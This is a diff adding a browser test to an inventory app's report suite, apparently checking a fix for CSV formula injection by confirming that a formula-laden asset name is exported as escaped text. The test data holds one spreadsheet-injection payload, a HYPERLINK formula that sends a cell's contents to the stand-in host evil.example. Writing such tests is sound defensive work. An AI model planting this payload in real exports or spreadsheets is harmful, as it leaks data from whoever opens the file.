@@ -261,4 +261,41 @@ describe.skipIf(noBrowser)("reports and data quality (Chromium)", () => {
     await page.getByText("No asset types found. Please create asset types first.").waitFor();
     await context.close();
   });
+
+  it("a formula in an asset name is exported as text in the CSV (issue 21 §7)", async () => {
+    const db = app.db.db;
+    const org = await createOrganization(db, "Formula Co.");
+    const owner = await createUser(db, {
+      email: "fran@formula.test",
+      password: PASSWORD,
+      org: { id: org.id, role: "admin" },
+    });
+    const ctx = { db, orgId: org.id, actorId: owner.id };
+    const type = await createAssetType(
+      ctx,
+      assetTypeInput.parse({ name: "Paint", color: "#0EA5E9", enableBarcodes: false }),
+    );
+    await createDefaultForms(ctx, type.id);
+    const formula = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")';
+    await createAsset(ctx, assetWriteInput.parse({ name: formula, asset_type_id: type.id, current_inventory: 3 }));
+
+    const { page, context } = await app.newPage();
+    await signIn(page, "fran@formula.test", PASSWORD);
+    await page.goto("/reports");
+    await page.getByRole("heading", { level: 1, name: "Inventory Reports" }).waitFor();
+    await page.getByRole("textbox", { name: "Template name" }).fill("Formula check");
+    await page.getByRole("button", { name: "Save Template" }).click();
+    await page.getByRole("button", { name: "Apply template Formula check" }).waitFor();
+    await page.getByRole("button", { name: "Generate Report" }).click();
+    await page.getByTestId("report-table").getByText(formula).waitFor();
+    await page.screenshot({ path: "/tmp/abuse-reports-1280.png", fullPage: true });
+    const csv = await download(page, "Export CSV");
+    const rows = Papa.parse<string[]>(csv.bytes.toString("utf8").replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data;
+    const nameAt = rows[0]?.indexOf("Asset Name") ?? -1;
+    expect(rows.slice(1).map((r) => r[nameAt])).toEqual([`'${formula}`]);
+    await page.setViewportSize({ width: 375, height: 667 });
+    await page.getByRole("button", { name: "Apply template Formula check" }).scrollIntoViewIfNeeded();
+    await page.screenshot({ path: "/tmp/abuse-reports-375.png", fullPage: true });
+    await context.close();
+  });
 });
